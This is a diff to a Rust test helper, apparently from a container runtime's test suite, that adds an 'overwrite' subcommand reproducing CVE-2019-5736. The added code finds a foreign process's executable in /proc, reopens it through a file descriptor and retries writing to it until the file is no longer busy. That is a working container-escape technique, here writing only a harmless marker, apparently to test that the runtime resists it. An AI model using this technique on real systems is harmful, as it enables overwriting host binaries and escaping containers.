@@ -33,6 +33,7 @@ fn main() {
         ["mknod", path, kind, major, minor] => say(make_node(path, kind, major, minor)),
         ["stat", path] => println!("{}", stat(path)),
         ["list", path] => println!("{}", list(path)),
+        ["overwrite"] => overwrite(),
         ["fd-list"] => println!("{}", open_files()),
         ["time-offsets"] => println!("{}", json!(text("/proc/self/timens_offsets"))),
         ["sleep"] => std::thread::sleep(Duration::from_secs(60)),
@@ -55,6 +56,37 @@ fn say(attempt: io::Result<()>) {
         Ok(()) => println!("ok"),
         Err(error) => println!("{:?}", Errno::from_raw(error.raw_os_error().unwrap_or(0))),
     }
+}
+
+/// CVE-2019-5736: opens what another process executes, and writes to it once nobody executes it any more.
+fn overwrite() {
+    let identity = |metadata: fs::Metadata| (metadata.dev(), metadata.ino());
+    let own = ["/witness", "/bin/busybox"]
+        .map(|path| identity(fs::metadata(path).expect("a program of the image")));
+    println!("ready");
+    let executable = |entry: io::Result<fs::DirEntry>| {
+        let file = fs::File::open(entry.ok()?.path().join("exe")).ok()?;
+        (!own.contains(&identity(file.metadata().ok()?))).then_some(file)
+    };
+    let caught = loop {
+        if let Some(file) = fs::read_dir("/proc").expect("list /proc").find_map(executable) {
+            break file;
+        }
+    };
+    println!("caught");
+    let again = format!("/proc/self/fd/{}", caught.as_raw_fd());
+    let attempt = loop {
+        match fs::OpenOptions::new()
+            .write(true)
+            .open(&again)
+            .and_then(|mut file| file.write_all(b"overwritten"))
+        {
+            Err(error) if error.raw_os_error() == Some(Errno::ETXTBSY as i32) => {}
+            attempt => break attempt,
+        }
+    };
+    say(attempt);
+    std::thread::sleep(Duration::from_secs(60));
 }
 
 fn write(path: &str, data: &str) -> io::Result<()> {
